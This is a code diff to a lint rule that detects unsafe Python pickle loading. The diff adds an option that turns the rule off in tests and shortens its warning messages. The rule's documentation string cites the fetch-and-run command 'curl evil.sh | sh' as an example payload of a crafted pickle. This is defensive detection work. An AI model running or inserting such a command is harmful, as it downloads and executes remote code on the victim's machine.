@@ -30,6 +30,7 @@ export default defineRule({
     bandit: 'B301',
     ruff: 'S301',
     fixable: false,
+    offInTests: true,
     docs: {
       what: 'Finds `pickle.load`, `pickle.loads` and `pickle.Unpickler` (also through `cPickle`, `_pickle`, `dill` and `cloudpickle`).',
       why: 'A pickle is a small program for a stack machine, not a data format: through `__reduce__` it can make the loader import and call any function with any arguments, for example `os.system("curl evil.sh | sh")`. Whoever can write the bytes being unpickled (an upload, a cache file in a shared directory, a message queue, a downloaded model) runs code with the privileges of the process. There is no way to make unpickling untrusted data safe after the fact.',
@@ -54,7 +55,7 @@ export default defineRule({
     if (!unpickler && isRoundTrip(call, 0, parameter, context.model, [`${module}.dumps`, `${module}._dumps`])) return;
     if (loadsNetworkContent(call, 0, parameter, context.model)) {
       context.report(call.node, {
-        message: `\`${callee}\` unpickles content downloaded from the network: ${FROM_NETWORK}. There is no safe drop-in rewrite; exchange data in a format that cannot carry code, such as JSON, and verify a signature (\`hmac\`) before trusting it.`,
+        message: `\`${callee}\` unpickles downloaded content: its server can run code here; exchange data as JSON and verify it.`,
         severity: 'high',
         confidence: 'high',
       });
@@ -62,12 +63,12 @@ export default defineRule({
     }
     if (unpickler) {
       context.report(call.node, {
-        message: `\`${callee}\` with the default \`find_class\` imports whatever globals the data names, so a crafted pickle runs arbitrary code when loaded. There is no safe drop-in rewrite: subclass it and override \`find_class\` to allow only the classes you expect, or use a data-only format such as JSON.`,
+        message: `\`${callee}\` with the default \`find_class\` runs code from crafted data; allow only expected classes, or use JSON.`,
       });
       return;
     }
     context.report(call.node, {
-      message: `\`${callee}\` can run arbitrary code: a pickle can make the loader call any function (through \`__reduce__\`), so unpickling data someone else can write or send is remote code execution. There is no safe drop-in rewrite; load only data this program wrote where others cannot modify it, or switch to a data-only format such as JSON.`,
+      message: `\`${callee}\` runs code a crafted pickle carries; unpickle only data this program wrote, or use JSON.`,
     });
   },
 });
